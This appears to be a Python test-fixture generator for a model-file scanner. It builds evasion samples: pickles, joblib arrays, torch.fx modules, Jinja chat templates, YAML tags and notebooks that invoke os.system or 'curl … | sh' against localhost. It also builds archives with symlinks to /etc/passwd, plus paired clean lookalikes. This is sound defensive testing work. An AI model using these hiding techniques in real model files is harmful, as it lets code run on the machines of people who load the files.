# SPDX-License-Identifier: Apache-2.0
"""Ways around scanners of models: what is called is the same harmless command everywhere, what differs is where it
hides. `hostile()` and `clean()` give {name: bytes}."""
import base64
import bz2
import codecs
import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib

import forms
from forms import call, name, text, value, whole

LIVE = forms.stack_global("os", "system", forms.HARMLESS)
OLD = b"cos\nsystem\n(S'echo harmless'\ntR."
SYSTEM = name("os", "system")
PLAIN = whole({"weights": [1, 2, 3]})
START = pickle.PROTO + b"\x04"


def built(made, state):
    return forms.Code(value(made) + value(state) + pickle.BUILD)


def new(module, attribute, *arguments):
    return forms.Code(value(name(module, attribute)) + value(arguments) + pickle.NEWOBJ)


def padded(padding):
    """More values than are kept, in front of the call."""
    return {f"padded/{padding}_{index}.pkl": START + one for index, one in enumerate((
        PADDINGS[padding] + LIVE[2:],
        PADDINGS[padding] + b"Vos\nVsystem\n\x93Vls\n\x85R.",
        PADDINGS[padding] + b"S'o\\x73'\nS'system'\n\x93Vls\n\x85R.",
        PADDINGS[padding] + text("system") + b"q\x050" + text("os") + b"q\x070h\x07h\x05\x93" + text("ls") + b"\x85R."))}


PADDINGS = {"none": b"N0" * 410_000, "text": (text("ab") + b"0") * 410_000, "tables": b"}0" * 410_000}


def graph_module(imports, statement, tracer=name("torch.fx._symbolic_trace", "Tracer")):
    """A module of torch.fx, whose code is executed when it is loaded."""
    body = {"training": False, "_code": f"\n\ndef forward(self, x):\n    y = {statement};  x = None\n    return y\n    ",
            "_tracer_cls": tracer, "_tracer_extras": {}, "meta": {}}
    return whole(call(name("torch.fx.graph_module", "reduce_graph_module"), body, imports))


def behind_array(padding, size_of_element):
    """What joblib runs behind an array whose size is hard to tell."""
    array = built(new("joblib.numpy_pickle", "NumpyArrayWrapper"), {
        "subclass": name("numpy", "ndarray"), "shape": (4,), "order": "C",
        "dtype": call(name("numpy", "dtype"), size_of_element, None, True)})
    return START + pickle.EMPTY_LIST + padding + b"(" + value(array) + b"\xff" * 32 + LIVE[2:-1] + b"e."


def joblib_hidden():
    """Joblib's reader passes over the array's bytes, Python's own runs them."""
    behind = b"0" + value(call(SYSTEM, forms.HARMLESS)) + b"."
    state = {"subclass": name("numpy", "ndarray"), "shape": (len(behind) + 40,), "order": "C",
             "dtype": call(name("numpy", "dtype"), "u1", None, True)}
    return START + value(built(new("joblib.numpy_pickle", "NumpyArrayWrapper"), state)) + behind + b"." * 100


def straddling():
    """A frame of two bytes, and an operand that is longer."""
    behind = b"cos\nsystem\nVid\n\x85R("
    return (pickle.PROTO + b"\x05N0(\x95" + struct.pack("<Q", 2) + b"B\x07\x01\0\0\0\0" + behind.ljust(261, b"N") + b"1.")


def hostile_pickles():
    import_by_name = call(name("torch._utils", "_import_dotted_name"), "os.system")
    code = call(name("types", "CodeType"), 0, 0, 0, 0, 1, 64, b"\x97\0", (None,), (), (), "<s>", "f")
    out = {
        "pickle/joblib.pkl": joblib_hidden(), "pickle/straddling.pkl": straddling(),
        "pickle/extension.pkl": b"\x80\x02\x82\x01(Vx\ntR.", "pickle/junk.pkl": b"JUNKJUNK" * 10 + LIVE,
        "pickle/state.pkl": START + value(new("argparse", "Namespace")) + value(
            {"__setstate__": name("builtins", "print")}) + b"b" + value(forms.HARMLESS) + b"b.",
        "pickle/import_by_name.pkl": whole(import_by_name),
        "pickle/rebuilt.pkl": whole(call(name("torch._tensor", "_rebuild_from_type_v2"), import_by_name,
                                         name("torch", "Tensor"), (forms.HARMLESS,), {})),
        "pickle/code.pkl": whole(code), "pickle/method.pkl": whole(call(name("operator", "methodcaller"), "system", "x")),
        "pickle/place.pkl": whole(call(name("scipy.io", "FortranFile"), "/etc/passwd")),
        "pickle/address.pkl": whole(call(name("xgboost", "DMatrix"), "http://127.0.0.1/x")),
        "pickle/store.pkl": whole(call(name("torch.distributed", "TCPStore"), "127.0.0.1", 1)),
        "pickle/documented.pkl": whole(call(name("numpy.core.function_base", "add_newdoc"), "antigravity", "x", "y")),
        "pickle/elastic.pkl": whole(call(name(
            "torch.distributed.elastic.multiprocessing.subprocess_handler", "SubprocessHandler"), "id", ())),
        "pickle/library.pkl": whole(call(name("numpy.core._internal", "ctypes.CDLL"), "x")),
        "pickle/removed.pkl": whole(call(name("torch.serialization", "os.remove"), "/tmp/none")),
        "pickle/loader.pkl": whole(call(name("yaml.loader", "UnsafeLoader"), "a: 1")),
        "pickle/file.pkl": whole(call(name("dill._dill", "_create_filehandle"), "/etc/passwd", "r")),
        "pickle/names.pkl": START + b"".join(b"cnumpy\nn%d\n0" % index for index in range(50_100)) + b"N.",
        "named/x.py": LIVE, "named/old.py": OLD, "named/x.yaml": LIVE}
    packed = {"zlib": zlib.compress, "gzip": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress}
    out |= {f"nested/{kind}.pkl": whole({"a": pack(LIVE)}) for kind, pack in packed.items()}
    return out | {"nested/base64.pkl": whole({"a": base64.b64encode(LIVE).decode()}),
                  "nested/base64_bytes.pkl": whole({"a": base64.urlsafe_b64encode(LIVE)}),
                  "nested/hex.pkl": whole({"a": LIVE.hex()}),
                  "nested/base64_zlib.pkl": whole({"a": base64.b64encode(zlib.compress(LIVE)).decode()})}


def zipped(*members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for member, content in members:
            archive.writestr(member, content)
    return out.getvalue()


def linked(member, target, kind=tarfile.SYMTYPE):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        info = tarfile.TarInfo(member)
        info.type, info.linkname = kind, target
        tar.addfile(info)
    return out.getvalue()


def zip_link(target):
    info = zipfile.ZipInfo("m/x")
    info.create_system, info.external_attr = 3, 0o120777 << 16
    return zipped((info, target))


def hostile_containers():
    one = zipped(("archive/data.pkl", LIVE))
    at = one.index(b"PK\x01\x02")

    def patched(where, content):
        return one[:where] + content + one[where + len(content):]
    deep = LIVE
    for _ in range(12):
        deep = gzip.compress(deep)
    small_window = zlib.compressobj(9, zlib.DEFLATED, 9)
    other_lzma = [{"id": lzma.FILTER_LZMA1, "lc": 0, "lp": 2, "pb": 0}]
    return {
        "zip/method.pt": patched(at + 10, b"\x63\0"), "zip/deflated.pt": patched(at + 10, b"\x08\0"),
        "zip/no_size.pt": patched(at + 20, bytes(8)), "zip/link.zip": zip_link("/etc/passwd"), "zip/link_up.zip": zip_link("../../x"),
        "zip/behind_json.keras": b'{"a": 1}\n' + one, "zip/behind_gguf.gguf": b"GGUF" + struct.pack("<IQQ", 3, 0, 0) + bytes(64) + one,
        "zip/behind_zlib.bin": b"\x78\x9cxx" + one, "packed/deep.gz": deep,
        "packed/window.z": small_window.compress(LIVE) + small_window.flush(),
        "packed/other.pkl": lzma.compress(LIVE, lzma.FORMAT_ALONE, filters=other_lzma),
        "packed/old.pkl": b"ZF" + hex(len(LIVE)).ljust(19).encode() + zlib.compress(LIVE),
        "tar/link.tar": linked("model/x", "/etc"), "tar/link_up.tar": linked("x", "../../.."),
        "tar/hard.tar": linked("x", "../etc/passwd", tarfile.LNKTYPE)}


def hostile_documents():
    keras = {"class_name": "Sequential", "config": {"layers": [
        {"class_name": "Lambda", "module": "keras.layers", "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wEA"}}}}]}}

    def layer(**settings):
        return json.dumps({"class_name": "Dense", "module": "keras.layers", "config": settings})

    def template(source):
        return json.dumps({"chat_template": source})
    functions = {"plot": ("keras.utils", "plot_model"), "gfile": ("tensorflow.io.gfile", "GFile"), "caller": ("operator", "methodcaller")}
    out = {f"keras/{key}/config.json": layer(activation={"module": module, "class_name": "function", "config": function})
           for key, (module, function) in functions.items()}
    templates = ("{{ getattr(getattr('', '__class__'), '__mro__') }}", "{% set x='__cla' %}{% set y='ss__' %}{{ ''[x+y] }}",
                 "{{ messages|map(attribute='__class__')|list }}", "{{ messages|map('attr', x) }}", "{{ ''[('%c'*9)%(95, 95)] }}",
                 "{{ dict(__cla=a,ss__=a)|join }}", "{{ '{0.__class__}'.format(x) }}", "{% include '/etc/passwd' %}")
    out |= {f"chat/{index}/tokenizer_config.json": template(source) for index, source in enumerate(templates)}
    yaml = {"prefix": "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['x']\n", "name": "a: !!python/name:os.system\n",
            "apply": "a: !apply:os.system [id]\n", "new": "a: !new:subprocess.Popen\n  args: id\n", "path": "m:\n  class_path: subprocess.Popen\n",
            "target": "model:\n  target: os.system\n", "method": "_target_: hydra.utils.get_method\npath: os.system\n",
            "evaluated": "backbone:\n  - [-1, 1, __import__('os').system('id')]\n", "chat": "chat_template: \"{{ x.__class__ }}\"\n",
            "index": "dependencies:\n- pip:\n  - --extra-index-url http://127.0.0.1/simple\n"}
    out |= {f"yaml/{key}.yaml": content for key, content in yaml.items()}
    cells = ("get_ipython().system('curl http://127.0.0.1/x')", "out = !curl http://127.0.0.1/x | sh")
    out |= {f"nb/{index}.ipynb": json.dumps({"cells": [{"cell_type": "code", "source": [cell]}]}) for index, cell in enumerate(cells)}
    return {key: content.encode() for key, content in out.items()} | {
        "keras/wide.keras": zipped(("config.json", json.dumps(keras).encode("utf-16"))),
        "keras/text.keras": zipped(("config.json", json.dumps({"class_name": "Lambda", "config": {"function": "lambda x: eval('1')"}}))),
        "keras/node/config.json": json.dumps({"class_name": "TensorFlowOpLayer", "config": {"node_def": 'name: "x" op: "ReadFile"'}}).encode(),
        "skops/operator.skops": zipped(("schema.json", json.dumps({"__class__": "call", "__module__": "builtins", "__loader__": "OperatorFuncNode"}))),
        "skops/method.skops": zipped(("schema.json", json.dumps({"__class__": "method", "__module__": "builtins", "__loader__": "MethodNode",
                                                                 "content": {"func": "__reduce__"}}))),
        "json/repr.json": b'{"py/repr": "os/os.system(1)"}', "json/object.json": b'{"py/object": "subprocess.Popen", "py/newargs": ["id"]}',
        "json/adapter_config.json": b'{"auto_mapping": {"base_model_class": "X", "parent_library": "evil"}}',
        "json/modules.json": b'[{"idx": 0, "name": "0", "path": "", "type": "evil.Module"}]',
        "json/model_index.json": b'{"_class_name": ["evil_pipeline", "Evil"]}',
        "json/bundle.json": json.dumps({"a": "$__import__('os').system('id')"}).encode(),
        "mlflow/MLmodel": b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: ../../x.pkl\n",
        "template/chat.template": b"{{ x.__class__.__subclasses__() }}", "template/Modelfile": b'FROM x\nTEMPLATE """{{ x.__class__ }}"""\n',
        "nb/old.ipynb": json.dumps({"worksheets": [{"cells": [{"cell_type": "code", "input": ["!curl http://127.0.0.1/ | sh"]}]}]}).encode(),
        "nb/script.ipynb": json.dumps({"cells": [{"cell_type": "code", "source": [], "outputs": [
            {"data": {"application/javascript": ["fetch('http://127.0.0.1/')"]}}]}]}).encode()}


def hostile():
    out = hostile_pickles() | hostile_containers() | hostile_documents()
    imports = "import torch\nfrom torch import device"
    graphs = {"import": graph_module("import os\n" + imports, "x"), "call": graph_module(imports, "__import__('os').system('id')"),
              "module": graph_module(imports, "torch.os.system('id')"), "tracer": graph_module(imports, "x", name("os", "system"))}
    out |= {f"graph_{key}.pkl": content for key, content in graphs.items()}
    packed = bytearray(gzip.compress(LIVE, mtime=0))
    packed[3] |= 2  # a checksum of the header, which is wrong
    out["header_checksum.pkl.gz"] = bytes(packed[:10]) + b"\x12\x34" + bytes(packed[10:])
    out["curried.pkl"] = whole(call(name("toolz.functoolz", "_restore_curry"), name("toolz.functoolz", "curry"), "os:system", (), {}, (), False))
    numbers = b"(" + b"".join(b"J" + struct.pack("<i", 1000 + index) for index in range(410_000)) + b"e"
    out |= {"array_numbers.joblib": behind_array(numbers, "f8"), "array_tables.joblib": behind_array(b"(" + b"]" * 410_000 + b"e", "f8"),
            "array_name.joblib": behind_array(b"", "float64"), "array_pair.joblib": behind_array(b"", "2f4")}
    for padding in PADDINGS:
        forms_of_it = padded(padding)
        out |= forms_of_it if padding == "text" else dict([next(iter(forms_of_it.items()))])
    return {"evasion/" + key: content for key, content in out.items()}


def clean():
    """The same shapes, with nothing in them."""
    frames = pickle.dumps([list(range(1000)), b"x" * 100_000, "y" * 70_000, {"a": 1}], 4)
    many = pickle.dumps({f"word {index}": float(index) for index in range(220_000)}, 4)
    links = linked("model/latest", "weights.bin")
    array = built(new("joblib.numpy_pickle", "NumpyArrayWrapper"), {
        "subclass": name("numpy", "ndarray"), "shape": (80,), "order": "C", "dtype": call(name("numpy", "dtype"), "u1", None, True)})
    out = {
        "graph.pkl": graph_module("import torch\nfrom torch import device", "getattr(self, \"0\")(torch.relu(x))"),
        "curried.pkl": whole(call(name("toolz.functoolz", "_restore_curry"), name("toolz.functoolz", "curry"),
                                  "dask.array.wrap:_broadcast_trick_inner", (), {}, (), False)),
        "hub/app.py": b"import nltk\nfrom huggingface_hub import hf_hub_download\nnltk.download('punkt')\nhf_hub_download('a/b', 'm.bin')\n",
        "frames.pkl": frames, "many.pkl": many, "nested_base64.pkl": whole({"a": base64.b64encode(PLAIN).decode()}),
        "nested_hex.pkl": whole({"a": PLAIN.hex()}), "nested_zlib.pkl": whole({"a": zlib.compress(PLAIN)}),
        "array.joblib": START + value(array) + bytes(range(80)) + b".", "device.pkl": whole(call(name("torch", "device"), "cuda:0")),
        "getter.pkl": whole(call(name("operator", "methodcaller"), "lower")), "rotated.pkl": whole(codecs.encode("os.system", "rot13")),
        "njt.pkl": whole(call(name("torch._tensor", "_rebuild_from_type_v2"), name("torch._utils", "_rebuild_parameter"),
                              name("torch.nn.parameter", "Parameter"), (1, True, None), {})),
        "wide.keras": zipped(("config.json", json.dumps({"class_name": "Dense", "config": {}}).encode("utf-16"))),
        "links.tar": links, "environment.tar": linked("venv/bin/python", "/usr/bin/python3"), "system.tar": linked("usr/bin/x", "/etc/alternatives/x"),
        "zip_link.zip": zip_link("y"), "behind.gguf": b"GGUF" + struct.pack("<IQQ", 3, 0, 0) + bytes(64) + zipped(("data.pkl", PLAIN)),
        "new.yaml": b"encoder: !new:torch.nn.Linear\n  in_features: 1\nact: !name:torch.nn.ReLU\n",
        "path.yaml": b"model:\n  class_path: torch.nn.Linear\n  target: ldm.models.Model\n  type: custom\n",
        "environment.yaml": b"dependencies:\n- pip:\n  - --extra-index-url https://download.example/whl\n",
        "modules.json": b'[{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}]',
        "adapter_config.json": b'{"auto_mapping": {"base_model_class": "X", "parent_library": "transformers.models.bert"}}',
        "model_index.json": b'{"_class_name": "StableDiffusionPipeline", "unet": ["diffusers", "UNet2DConditionModel"]}',
        "chat.template": b"{% for m in messages %}{{ '__' ~ m['role'] ~ '__' }}{% endfor %}", "prompt.txt": b"Say {{ name }} and {% raw %}__x__{% endraw %}",
        "system.yaml": b"a: '{{ facts.system }}'\ntype: signal.filter\ntarget: test.data\n",
        "kernel.txt": b"int a[] = {{ 1, 2 }};\n", "type.json": b'{"type": "http.request", "target": "code.coverage"}',
        "nb.ipynb": json.dumps({"cells": [{"cell_type": "code", "source": ["x = 1 if a != 2 else 3\n", "!ssh-keyscan github.com >> ~/.ssh/known_hosts"]}]}).encode(),
        "activation/config.json": json.dumps({"class_name": "Lambda", "config": {"function": "my_package.layers>scale"}}).encode()}
    return {"evasion/" + key: content for key, content in out.items()}
